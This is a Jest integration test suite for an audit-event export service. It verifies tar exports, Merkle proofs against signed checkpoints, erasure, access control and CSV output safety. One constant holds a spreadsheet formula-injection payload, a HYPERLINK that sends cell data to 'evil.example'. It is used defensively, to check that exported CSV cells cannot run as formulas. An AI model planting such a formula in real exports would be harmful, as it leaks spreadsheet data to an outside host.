import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import tar from 'tar-stream';
import { createPool, sqlOver, type Sql } from '#event-store';
import { openCheckpoint, readVerifierKey, verifyConsistency, verifyInclusion, type NoteVerifier } from '#proof';
import { leafHash } from '#record';
import { startServer, until, type CallAnswer, type RunningServer } from './support/running-server.js';
import { createTestDatabase, type TestDatabase } from './support/test-postgres.js';

interface ShownExport {
  readonly id: string;
  readonly state: string;
  readonly range: { readonly first: string; readonly last: string };
  readonly query: unknown;
  readonly manifest: Manifest | null;
}

interface Manifest {
  readonly complete: boolean;
  readonly first: string | null;
  readonly last: string | null;
  readonly events: number;
  readonly query: object;
  readonly from: string | null;
  readonly checkpoint: { readonly size: string; readonly root: string } | null;
  readonly files: Readonly<Record<string, { readonly sha256: string; readonly bytes: number }>>;
}

let server: RunningServer;
let database: TestDatabase;
let pool: ReturnType<typeof createPool>;
let sql: Sql;
const keys = { runtime: '', auditor: '', blind: '', approver: '', stranger: '' };
const base = '/v1/accounts/default';

const newKey = async (role: string, more: object = {}, account = 'default'): Promise<string> => {
  const body = { role, name: role, ...more };
  const answer = await server.call<{ secret: string }>('POST', `/v1/accounts/${account}/keys`, { body });
  expect(answer.status).toBe(201);
  return answer.body.secret;
};

/** A text that a spreadsheet must not run. */
const formula = '=HYPERLINK("http://evil.example/"&A1,"look")';

const say = async (text: string, sessionId: string): Promise<void> => {
  const body = { turnId: `=turn of ${sessionId}`, context: { sessionId, channelId: null, text, mediaIds: [] } };
  const answer = await server.call('POST', `${base}/hooks/middleware/userMessageInbound`, { key: keys.runtime, body });
  expect([answer.status, answer.text]).toEqual([200, answer.text]);
};

beforeAll(async () => {
  database = await createTestDatabase();
  pool = createPool({ connectionString: database.url, max: 1 });
  sql = sqlOver(pool);
  server = await startServer({ env: { DATABASE_URL: database.url } });
  await server.call('POST', '/v1/accounts', { body: { id: 'other', name: 'Other' } });
  keys.runtime = await newKey('runtime');
  keys.auditor = await newKey('auditor');
  keys.blind = await newKey('auditor', { content: 'none' });
  keys.approver = await newKey('approver');
  keys.stranger = await newKey('auditor', {}, 'other');
  for (let n = 0; n < 12; n += 1) await say(n === 3 ? formula : `=word ${String(n)}`, `s-${String(n % 2)}`);
}, 120_000);

afterAll(async () => {
  await server.close();
  await pool.end();
  await database.drop();
});

const ask = (
  body: object,
  key = keys.auditor,
  headers: Record<string, string> = {},
): Promise<CallAnswer<ShownExport>> => server.call<ShownExport>('POST', `${base}/exports`, { key, body, headers });

const look = (id: string, key = keys.auditor): Promise<CallAnswer<ShownExport>> =>
  server.call<ShownExport>('GET', `${base}/exports/${id}`, { key });

const made = async (body: object, key = keys.auditor): Promise<ShownExport & { readonly manifest: Manifest }> => {
  const asked = await ask(body, key);
  expect([asked.status, asked.text]).toEqual([202, asked.text]);
  expect(asked.headers.get('location')).toBe(`${base}/exports/${asked.body.id}`);
  let shown = asked.body;
  await until('the export is made', async () => {
    shown = (await look(asked.body.id, key)).body;
    return shown.state === 'done';
  });
  if (shown.manifest === null) throw new Error('done, and without a manifest');
  return { ...shown, manifest: shown.manifest };
};

const fetchFile = async (id: string, query = '', key = keys.auditor): Promise<{ bytes: Buffer; headers: Headers }> => {
  const answer = await fetch(`${server.url}${base}/exports/${id}/file${query}`, {
    headers: { authorization: `Bearer ${key}` },
  });
  expect(answer.status).toBe(200);
  return { bytes: Buffer.from(await answer.arrayBuffer()), headers: answer.headers };
};

const unpacked = async (bytes: Buffer): Promise<ReadonlyMap<string, Buffer>> => {
  const files = new Map<string, Buffer>();
  const extract = Readable.from([bytes]).pipe(tar.extract());
  for await (const entry of extract as unknown as AsyncIterable<Readable & { header: { name: string } }>) {
    const pieces: Buffer[] = [];
    for await (const piece of entry) pieces.push(piece as Buffer);
    files.set(entry.header.name.split('/').at(-1) ?? '', Buffer.concat(pieces));
  }
  return files;
};

// eslint-disable-next-line @typescript-eslint/no-unnecessary-type-parameters -- a line is what the caller says it is
const linesOf = <T>(bytes: Buffer | undefined): readonly T[] =>
  (bytes ?? Buffer.alloc(0))
    .toString('utf8')
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as T);

const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex');

describe('an export as JSON lines', () => {
  it('is a tar of the stored bytes, each proved against a signed checkpoint, and of what its manifest says', async () => {
    const { id, manifest } = await made({ query: {}, format: 'jsonl' });
    const { bytes, headers } = await fetchFile(id);
    expect(headers.get('content-length')).toBe(String(bytes.length));
    const files = await unpacked(bytes);
    expect([...files.keys()]).toEqual([
      'manifest.json',
      'events.jsonl',
      'proofs.jsonl',
      'checkpoints.jsonl',
      'log-keys.json',
    ]);
    expect(JSON.parse(String(files.get('manifest.json')))).toMatchObject({ ...manifest, query: {} });
    for (const [name, file] of Object.entries(manifest.files)) {
      const own = files.get(name) ?? Buffer.alloc(0);
      expect([name, own.length, sha256(own)]).toEqual([name, file.bytes, file.sha256]);
    }

    const lines = String(files.get('events.jsonl')).split('\n').slice(0, -1);
    expect(lines).toHaveLength(manifest.events);
    expect([manifest.complete, manifest.first]).toEqual([true, '0']);
    expect(Number(manifest.last) + 1).toBe(manifest.events);
    const logged = await server.call('GET', `${base}/events?limit=500`, { key: keys.auditor });
    const ids = (logged.body as { items: { id: string }[] }).items.slice(0, lines.length).map((event) => event.id);
    expect(lines.map((line) => (JSON.parse(line) as { id: string }).id)).toEqual(ids);

    const keyFile = JSON.parse(String(files.get('log-keys.json'))) as { keys: { verifierKey: string }[] };
    const verifiers = keyFile.keys.map(({ verifierKey }) => readVerifierKey(verifierKey)) as NoteVerifier[];
    const checkpoints = linesOf<{ size: string; root: string; note: string; consistency: string[] }>(
      files.get('checkpoints.jsonl'),
    );
    checkpoints.forEach(({ size, root, note, consistency }, index) => {
      const opened = openCheckpoint(note, verifiers);
      expect(opened).toMatchObject({ kind: 'signed', checkpoint: { size: BigInt(size) } });
      const before = checkpoints[index - 1];
      if (before === undefined) return;
      const head = (one: { size: string; root: string }) => ({
        size: BigInt(one.size),
        root: Buffer.from(one.root, 'base64'),
      });
      const path = consistency.map((hash) => Buffer.from(hash, 'base64'));
      expect(verifyConsistency(head(before), head({ size, root }), path)).toBe(true);
    });
    expect(checkpoints.at(-1)).toMatchObject(manifest.checkpoint ?? {});

    const proofs = linesOf<{ position: string; leaf: string; proof: string[] | null }>(files.get('proofs.jsonl'));
    const root = Buffer.from(manifest.checkpoint?.root ?? '', 'base64');
    proofs.forEach(({ position, leaf, proof }, index) => {
      const own = leafHash(Buffer.from(lines[index] ?? ''));
      expect([position, leaf]).toEqual([String(index), own.toString('hex')]);
      const path = (proof ?? []).map((hash) => Buffer.from(hash, 'base64'));
      expect(verifyInclusion(own, BigInt(position), BigInt(manifest.checkpoint?.size ?? 0), path, root)).toBe(true);
    });
    // Fetched again, it is the same to the byte.
    expect((await fetchFile(id)).bytes.equals(bytes)).toBe(true);
  }, 60_000);

  it('stays what it was when it was asked for, whatever comes after, and the same question has the same events', async () => {
    const [one, other] = [
      await made({ query: { last: '20' }, format: 'jsonl' }),
      await made({ query: { last: '20' }, format: 'jsonl' }),
    ];
    const whole = await made({ query: {}, format: 'jsonl' });
    await say('later', 's-0');
    expect(one.manifest.files['events.jsonl']).toEqual(other.manifest.files['events.jsonl']);
    const { bytes } = await fetchFile(whole.id, '?name=events.jsonl');
    expect([bytes.length, sha256(bytes)]).toEqual(Object.values(whole.manifest.files['events.jsonl'] ?? {}).reverse());
    expect(String(bytes)).not.toContain('later');
  }, 60_000);

  it('stays what it was when another log key came into force since', async () => {
    const { id } = await made({ query: { last: '20' }, format: 'jsonl' });
    const before = (await fetchFile(id)).bytes;
    const rotation = await server.call('POST', '/v1/log-keys/rotation', { body: { reason: 'yearly' } });
    expect([rotation.status, rotation.text]).toEqual([201, rotation.text]);
    expect((await fetchFile(id)).bytes.equals(before)).toBe(true);
    const { id: later } = await made({ query: { last: '20' }, format: 'jsonl' });
    const { keys: known } = JSON.parse(String((await fetchFile(later, '?name=log-keys.json')).bytes)) as {
      keys: { validUntil: string | null }[];
    };
    expect(known.map(({ validUntil }) => validUntil === null)).toEqual([false, true]);
  }, 60_000);

  it('is cut off, and nothing else is, where it comes out otherwise than it was made', async () => {
    const { id } = await made({ query: { last: '20' }, format: 'jsonl' });
    await sql.query(
      `update export_job set manifest = regexp_replace(manifest, '"sha256":"..', '"sha256":"zz') where id = $1`,
      [id],
    );
    await expect(fetchFile(id)).rejects.toThrow();
    expect((await look(id)).status).toBe(200);
  }, 60_000);

  it('takes only what the query says, and says that it is not complete', async () => {
    const { id, manifest } = await made({
      query: { types: ['handler.*', 'invocation.opened'], sessionId: 's-1' },
      format: 'jsonl',
    });
    const { bytes, headers } = await fetchFile(id, '?name=events.jsonl');
    const events = linesOf<{ type: string; sessionId: string }>(bytes);
    expect(new Set(events.map(({ type, sessionId }) => `${type} ${sessionId}`))).toEqual(
      new Set(['invocation.opened s-1']),
    );
    expect([manifest.complete, manifest.events]).toEqual([false, 6]);
    expect(headers.get('repr-digest')).toBe(`sha-256=:${createHash('sha256').update(bytes).digest('base64')}:`);
  }, 60_000);

  it('cuts by time to the millisecond, and tells the bounds in UTC', async () => {
    const answer = await server.call<{ items: { position: string; recordedAt: string }[] }>(
      'GET',
      `${base}/events?limit=500`,
      { key: keys.auditor },
    );
    const { items } = answer.body;
    const [from, to] = [items[8]?.recordedAt ?? '', items[20]?.recordedAt ?? ''];
    const { id, manifest } = await made({ query: { from: from.replace('Z', '+00:00'), to }, format: 'jsonl' });
    const wanted = items.filter(({ recordedAt }) => recordedAt >= from && recordedAt < to);
    const proofs = linesOf<{ position: string }>((await fetchFile(id, '?name=proofs.jsonl')).bytes);
    expect(proofs.map(({ position }) => position)).toEqual(wanted.map(({ position }) => position));
    expect(manifest).toMatchObject({
      from,
      to,
      complete: true,
      first: wanted[0]?.position,
      last: wanted.at(-1)?.position,
    });
  }, 60_000);

  it('holds opened content beside the bytes, only when that is asked for and only for a key that may see it', async () => {
    const { id } = await made({ query: {}, format: 'jsonl', content: 'full' });
    expect(String((await fetchFile(id, '?name=events.jsonl')).bytes)).not.toContain('HYPERLINK');
    const content = (await fetchFile(id, '?name=content.jsonl')).bytes.toString('utf8');
    expect(content).toContain('HYPERLINK');
    expect((await ask({ query: {}, format: 'csv', content: 'full' }, keys.blind)).status).toBe(403);
    expect((await server.call('GET', `${base}/exports/${id}/file`, { key: keys.blind })).status).toBe(403);
    const hidden = await look(id, keys.blind);
    expect(hidden.body).toMatchObject({ manifest: null, query: { hidden: true } });
  }, 60_000);
});

describe('an export with content', () => {
  it('gives nothing out that was erased since, and is made again without it', async () => {
    await say('to be forgotten', 's-erased');
    const body = { query: { sessionId: 's-erased' }, format: 'jsonl' };
    const [open, sealed] = [await made({ ...body, content: 'full' }), await made(body)];
    expect(String((await fetchFile(open.id, '?name=content.jsonl')).bytes)).toContain('to be forgotten');
    const erasure = { scope: { sessionId: 's-erased' }, reason: 'asked for' };
    const erased = await server.call('POST', `${base}/erasures`, { body: erasure });
    expect([erased.status, erased.text]).toEqual([201, erased.text]);

    const outdated = await server.call<{ code: string }>('GET', `${base}/exports/${open.id}/file`, {
      key: keys.auditor,
    });
    expect([outdated.status, outdated.body.code]).toEqual([409, 'export_outdated']);
    await until('it is made again', async () => (await look(open.id)).body.state === 'done');
    const content = String((await fetchFile(open.id, '?name=content.jsonl')).bytes);
    expect(content).not.toContain('forgotten');
    expect(content).toContain('"erased":true');
    // The stored bytes are what they were: only their key is gone.
    const again = (await look(open.id)).body.manifest?.files['events.jsonl'];
    expect(again).toEqual(sealed.manifest.files['events.jsonl']);
    expect((await fetchFile(sealed.id)).bytes.length).toBeGreaterThan(0);
  }, 60_000);
});

describe('an export as CSV', () => {
  it('opens inert: no cell begins like a formula, no cell ends a line', async () => {
    const { id, manifest } = await made({ query: { types: ['invocation.opened'] }, format: 'csv', content: 'full' });
    const { bytes, headers } = await fetchFile(id);
    expect(headers.get('content-type')).toContain('text/csv');
    expect(sha256(bytes)).toBe(manifest.files['events.csv']?.sha256);
    const text = bytes.toString('utf8');
    const lines = text.split('\r\n').slice(0, -1);
    expect(lines).toHaveLength(manifest.events + 1);
    expect(lines[0]).toMatch(/^\ufeff"position","recordedAt"/u);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\n\r]/u);
    expect(text).toContain('HYPERLINK');
    for (const cell of text.matchAll(/(?:^|,)"((?:[^"]|"")*)"/gmu)) expect(cell[1]).not.toMatch(/^\s*[=+\-@\t\r]/u);
    // `data` is JSON, and begins with a brace; the turn's name began with =.
    expect(text).toContain(`"'=turn of s-1"`);
  }, 60_000);
});

describe('exports', () => {
  it('are of one account: another one’s key finds nothing, and a role that may not read asks for none', async () => {
    const { id } = await made({ query: {}, format: 'csv' });
    const foreign = { key: keys.stranger };
    expect((await server.call('GET', `/v1/accounts/other/exports/${id}`, foreign)).status).toBe(404);
    expect((await server.call('GET', `/v1/accounts/other/exports/${id}/file`, foreign)).status).toBe(404);
    expect((await look(id, keys.stranger)).status).toBe(404);
    for (const key of [keys.runtime, keys.approver]) {
      expect((await ask({ query: {}, format: 'csv' }, key)).status).toBe(403);
      expect((await look(id, key)).status).toBe(403);
    }
    expect((await look('no-such-export')).status).toBe(404);
  }, 60_000);

  it('are on record, and asked for once under one key', async () => {
    const body = { query: { sessionId: 's-1' }, format: 'jsonl' };
    const header = { 'idempotency-key': 'export-1' };
    const [first, again] = [await ask(body, keys.auditor, header), await ask(body, keys.auditor, header)];
    expect([again.body.id, again.headers.get('idempotency-replayed')]).toEqual([first.body.id, 'true']);
    const logged = await server.call('GET', `${base}/events?type=export.created&limit=500&content=open`, {
      key: keys.auditor,
    });
    const events = (logged.body as { items: { data: { exportId: string; query: object } }[] }).items;
    const own = events.filter(({ data }) => data.exportId === first.body.id);
    expect(own).toMatchObject([{ actor: { kind: 'key' }, data: { query: { sessionId: 's-1' }, content: 'none' } }]);
  });

  it.each([
    ['an unknown field', { query: { until: '3' }, format: 'csv' }, '/query/until'],
    ['a format that is none', { query: {}, format: 'pdf' }, '/format'],
    ['an inverted range', { query: { first: '5', last: '4' }, format: 'csv' }, '/query/last'],
    ['an inverted time', { query: { from: '2026-01-02', to: '2026-01-01T00:00:00Z' }, format: 'csv' }, '/query/to'],
    ['a number for a position', { query: { first: 5 }, format: 'csv' }, '/query/first'],
    ['a time that is none', { query: { from: 'yesterday' }, format: 'csv' }, '/query/from'],
    ['a type that is none', { query: { types: ['handler.passed', 'nope'] }, format: 'csv' }, '/query/types/1'],
    ['no types at all', { query: { types: [] }, format: 'csv' }, '/query/types'],
    ['no query', { format: 'csv' }, '/query'],
  ])('refuse %s, and say where', async (_what, body, pointer) => {
    const answer = await ask(body);
    expect(answer.status).toBe(422);
    expect(answer.body).toMatchObject({ errors: [expect.objectContaining({ pointer })] });
  });

  it('are made by the next worker when one dies over them', async () => {
    const { id } = (await ask({ query: {}, format: 'jsonl' })).body;
    await server.kill();
    server = await startServer({ dataDir: server.dataDir, env: { DATABASE_URL: database.url } });
    await until('the export is made', async () => (await look(id)).body.state === 'done');
    expect((await unpacked((await fetchFile(id)).bytes)).size).toBe(5);
  }, 120_000);
});
